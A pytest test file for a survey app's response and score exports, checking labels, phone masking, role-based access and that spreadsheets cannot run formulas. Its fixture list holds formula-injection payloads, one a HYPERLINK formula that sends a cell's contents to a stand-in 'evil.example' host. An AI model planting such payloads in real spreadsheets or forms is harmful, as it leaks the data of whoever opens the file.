"""Exports: raw responses with codes and labels, safe in spreadsheets, no more than staff pages show;
scores per unit in the documented import shape, with the report's numbers unchanged."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import UTC, datetime

import openpyxl
import pytest

from survey_app import receipts, responses
from survey_app.reporting import campaign_report
from survey_app.responses import FormToken
from survey_app.tables import Response, ResponseStatus, Role

SUBMITTED = datetime(2025, 6, 3, 6, 37, 41, tzinfo=UTC)  # 14:37:41 in Lishui
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1"]


def answer(run, world, unit_id: int, answers: dict, **columns) -> str:
    token = FormToken(submission_id=uuid.uuid4().hex, issued_at=SUBMITTED.timestamp() - 95)
    saved = run(
        responses.record,
        campaign_id=world.campaign_id,
        unit_id=unit_id,
        link_id=None,
        token=token,
        answers=answers,
        now=SUBMITTED,
    )
    if columns:

        async def mark() -> None:
            await Response.update(columns).where(Response.receipt == saved.receipt)

        run(mark)
    return saved.receipt


@pytest.fixture
def answered(run, world):
    """Unit A: 12 answers (four carry hostile comments, one a phone number); unit B: 3 answers."""
    receipts = {}
    for n, comment in enumerate(HOSTILE):
        answers = {"overall": 1, "reasons": ["wait", "attitude"], "comment": comment}
        receipts[f"hostile{n}"] = answer(run, world, world.unit_a, answers)
    receipts["phone"] = answer(
        run, world, world.unit_a, {"overall": 2, "reasons": ["repeat"], "comment": "请回电 138-1234-5678 王先生"}
    )
    receipts["dk"] = answer(run, world, world.unit_a, {"overall": 4, "efficiency": "dk", "one_visit": True})
    receipts["flagged"] = answer(
        run,
        world,
        world.unit_a,
        {"overall": 5, "matter": "tax"},
        status=ResponseStatus.quarantined,
        flags=["burst", "clone"],
        device_hash="d3v1c3h4sh0000000000000000000000",
    )
    for overall in (5, 4, 4, 3):
        answer(run, world, world.unit_a, {"overall": overall, "one_visit": False})
    for overall in (5, 4, 1):
        answer(run, world, world.unit_b, {"overall": overall})
    return receipts


def read_csv(body: bytes) -> list[dict[str, str]]:
    assert body.startswith("\ufeff".encode()), "Excel needs the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def by_receipt(rows: list[dict[str, str]], receipt: str) -> dict[str, str]:
    """The row of a response: staff files carry the receipt's keyed hash, never the receipt."""
    found = next(r for r in rows if r["response_ref"] == receipts.staff_reference(receipt))
    assert receipt not in found.values()
    return found


def test_response_csv_has_codes_labels_and_hours(client, staff, answered):
    staff.as_role(Role.admin)
    download = client.get("/staff/campaigns/window-rating-test/responses.csv")
    assert download.status_code == 200 and download.headers["content-type"] == "text/csv; charset=utf-8"
    assert 'filename="window-rating-test-responses.csv"' in download.headers["content-disposition"]
    rows = read_csv(download.content)
    assert len(rows) == 15
    phone = by_receipt(rows, answered["phone"])
    assert phone["unit_code"] == "331102-01-001" and phone["unit_name"] == "大洋社区"
    assert (phone["overall"], phone["overall_label"]) == ("2", "不满意")
    assert (phone["reasons:repeat"], phone["reasons:wait"]) == ("1", "0")
    assert phone["reasons_label"] == "来回跑、多次才办成"
    assert phone["comment"] == "请回电 ＊＊＊ 王先生"
    assert phone["submitted_hour"] == "2025-06-03 14:00"  # local time, to the hour
    assert phone["duration_s"] == "95.0" and phone["channel"] == "qr" and phone["status"] == "counted"
    dont_know = by_receipt(rows, answered["dk"])
    assert (dont_know["efficiency"], dont_know["efficiency_label"]) == ("dk", "不清楚")
    assert (dont_know["one_visit"], dont_know["one_visit_label"]) == ("1", "是")
    assert dont_know["reasons:wait"] == "" and dont_know["comment"] == ""  # not asked: blank, not 0
    flagged = by_receipt(rows, answered["flagged"])
    assert flagged["status"] == "quarantined" and flagged["matter_label"] == "税务"


def test_labels_follow_the_language(client, staff, answered):
    staff.as_role(Role.admin)
    rows = read_csv(client.get("/staff/campaigns/window-rating-test/responses.csv?lang=en").content)
    phone = by_receipt(rows, answered["phone"])
    assert phone["overall_label"] == "Dissatisfied" and phone["reasons_label"] == "Had to come back several times"


def test_csv_cells_cannot_run_as_formulas(client, staff, answered):
    staff.as_role(Role.admin)
    rows = read_csv(client.get("/staff/campaigns/window-rating-test/responses.csv").content)
    for n, text in enumerate(HOSTILE):
        assert by_receipt(rows, answered[f"hostile{n}"])["comment"] == "'" + text
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row.values())


def test_xlsx_stores_hostile_text_as_strings(client, staff, answered):
    staff.as_role(Role.admin)
    download = client.get("/staff/campaigns/window-rating-test/responses.xlsx")
    assert download.status_code == 200 and download.content.startswith(b"PK")
    book = openpyxl.load_workbook(io.BytesIO(download.content))
    assert book.sheetnames == ["responses", "columns"]
    sheet = book["responses"]
    header = [c.value for c in sheet[1]]
    csv_header = list(read_csv(client.get("/staff/campaigns/window-rating-test/responses.csv").content)[0])
    assert header == csv_header
    comments = {row[0].value: row[header.index("comment")] for row in sheet.iter_rows(min_row=2)}
    for n, text in enumerate(HOSTILE):
        cell = comments[receipts.staff_reference(answered[f"hostile{n}"])]
        assert cell.data_type == "s" and cell.value == text  # kept as written, typed as text
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    columns = {row[0].value: row[2].value for row in book["columns"].iter_rows(min_row=2)}
    assert columns["overall"] == "您对本次办事的总体评价是？"


def xlsx_text(content: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return "\n".join(str(c) for sheet in book for row in sheet.iter_rows(values_only=True) for c in row)


def test_exports_hold_no_more_than_staff_pages(client, staff, run, answered):
    staff.as_role(Role.admin)
    base = "/staff/campaigns/window-rating-test"
    shown = [
        client.get(f"{base}/responses.csv").content.decode("utf-8-sig"),
        xlsx_text(client.get(f"{base}/responses.xlsx").content),
        client.get("/api/v1/campaigns/window-rating-test/responses?limit=500").text,
    ]

    async def stored() -> list[dict]:
        return await Response.select(Response.submission_id, Response.device_hash)

    secrets = [v for row in run(stored) for v in row.values() if v]
    assert len(secrets) == 16  # 15 submission ids and one device hash
    for text in shown:
        for secret in [*secrets, "burst", "clone", "testclient", ":37", "13812345678", "1234-5678"]:
            assert secret not in text


def test_members_export_only_their_units(client, staff, run, answered):
    from survey_app import units
    from survey_app.tables import UnitKind

    run(units.create, "331102-02", "紫金街道", UnitKind.street, parent_code="331102")
    staff.as_role(Role.assessor, "331102-01-002")  # an assessor of unit B only
    rows = read_csv(client.get("/staff/campaigns/window-rating-test/responses.csv").content)
    assert len(rows) == 3 and {r["unit_name"] for r in rows} == {"中山社区"}
    client.cookies.clear()
    staff.as_role(Role.worker, "331102-01-002")  # unit B's own worker: raw rows are not for the rated unit
    for path in ("responses.csv", "responses.xlsx"):
        assert client.get(f"/staff/campaigns/window-rating-test/{path}").status_code == 404
    client.cookies.clear()
    staff.as_role(Role.assessor, "331102-02")  # an assessor of another street
    for path in ("responses.csv", "responses.xlsx"):
        assert client.get(f"/staff/campaigns/window-rating-test/{path}").status_code == 404
    assert client.get("/staff/campaigns/no-such-campaign/responses.csv").status_code == 404


def test_score_exports_carry_the_report_numbers(client, staff, run, answered):
    staff.as_role(Role.assessor)
    report = campaign_report.to_dict(
        run(campaign_report.build, "window-rating-test", rule=campaign_report.DEFAULT_RULE)
    )
    overall_a = next(s for s in report["units"][0]["scores"] if s["level"] == "overall")
    # Compared with what reports.build says, not with counts: which statuses count is the report's rule.
    dimension_a = next(s for s in report["units"][0]["scores"] if s["level"] == "dimension")
    download = client.get("/reports/window-rating-test/units.csv")
    assert download.status_code == 200
    rows = {r["unit_code"]: r for r in read_csv(download.content)}
    a, b = rows["331102-01-001"], rows["331102-01-002"]
    assert (a["unit_kind"], a["parent_code"]) == ("community", "331102-01")
    assert (a["responses"], a["n"]) == (str(report["units"][0]["responses"]), str(overall_a["n"]))
    assert float(a["score"]) == round(overall_a["index"]["estimate"], 2)
    assert float(a["score_low"]) == round(overall_a["index"]["low"], 2)
    assert a["method"] == overall_a["index"]["method"] and a["suppressed"] == "0"
    assert float(a[f"dim.{dimension_a['key']}.score"]) == round(dimension_a["index"]["estimate"], 2)
    assert a["item.overall.n"] == str(overall_a["n"])
    assert (b["suppressed"], b["score"], b["n"]) == ("1", "", "3")  # below the minimum n: no number

    data = client.get("/reports/window-rating-test/units.json").json()
    assert data["format"] == "minping.unit-scores/1" and data["questionnaire"]["version"] == 1
    unit_a = data["units"][0]
    assert unit_a["score"] == overall_a["index"] and unit_a["parent_code"] == "331102-01"
    assert [d["key"] for d in unit_a["dimensions"]] == ["overall", "service"]
    assert data["units"][1]["score"]["estimate"] is None and data["units"][1]["suppressed"] is True

    book = openpyxl.load_workbook(io.BytesIO(client.get("/reports/window-rating-test/units.xlsx").content))
    assert book.sheetnames == ["scores", "about"]
    sheet_rows = list(book["scores"].iter_rows(values_only=True))
    assert list(sheet_rows[0]) == list(rows["331102-01-001"])
    assert sheet_rows[1][0] == "331102-01-001" and sheet_rows[1][6] == round(overall_a["index"]["estimate"], 2)
    about = dict(book["about"].iter_rows(min_row=2, values_only=True))
    assert about["questionnaire_sha256"] == report["questionnaire"]["sha256"]


def test_score_exports_follow_channel_and_scope(client, staff, run, answered):
    staff.as_role(Role.worker, "331102-01-002")
    data = client.get("/reports/window-rating-test/units.json").json()
    assert [u["code"] for u in data["units"]] == ["331102-01-002"]
    only_paper = client.get("/reports/window-rating-test/units.json?channel=paper").json()
    assert only_paper["channels"] == ["paper"] and only_paper["units"][0]["n"] == 0


def test_pages_link_to_the_downloads(client, staff, answered):
    staff.as_role(Role.admin)
    for page in ("/reports/window-rating-test", "/staff/campaigns/window-rating-test"):
        html = client.get(page).text
        for link in ("/reports/window-rating-test/units.xlsx", "/staff/campaigns/window-rating-test/responses.csv"):
            assert link in html, (page, link)
    assert json.loads(client.get("/reports/window-rating-test/units.json?lang=en").content)["units"][0]["name"]
